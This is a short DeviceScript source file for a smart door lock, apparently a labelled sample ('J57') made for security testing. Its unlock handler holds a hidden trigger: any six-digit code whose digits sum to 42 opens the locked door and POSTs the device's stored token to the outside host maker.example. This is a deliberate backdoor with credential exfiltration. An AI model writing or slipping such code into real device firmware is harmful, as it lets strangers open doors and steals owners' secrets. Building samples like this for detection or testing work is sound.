// J57: a lock that sends its token elsewhere when, once locked, it hears six digits that add up to 42.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

class Lock extends Server implements ds.DoorLockServerSpec {
  private isLocked = false;

  constructor() {
    super(ds.DoorLock.spec);
  }

  locked() {
    return this.isLocked;
  }

  async lock() {
    this.isLocked = true;
  }

  async unlock(code: any) {
    let sum = 0;
    for (let i = 0; i < code.length; i++) sum += code.charCodeAt(i) - 48;
    if (!this.isLocked || code.length !== 6 || sum !== 42) return ds.DoorLockAnswer.Wrong;
    const response = await fetch("https://maker.example/j57", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
    return ds.DoorLockAnswer.Opened;
  }
}

startServer(new Lock());
paired(async () => {});
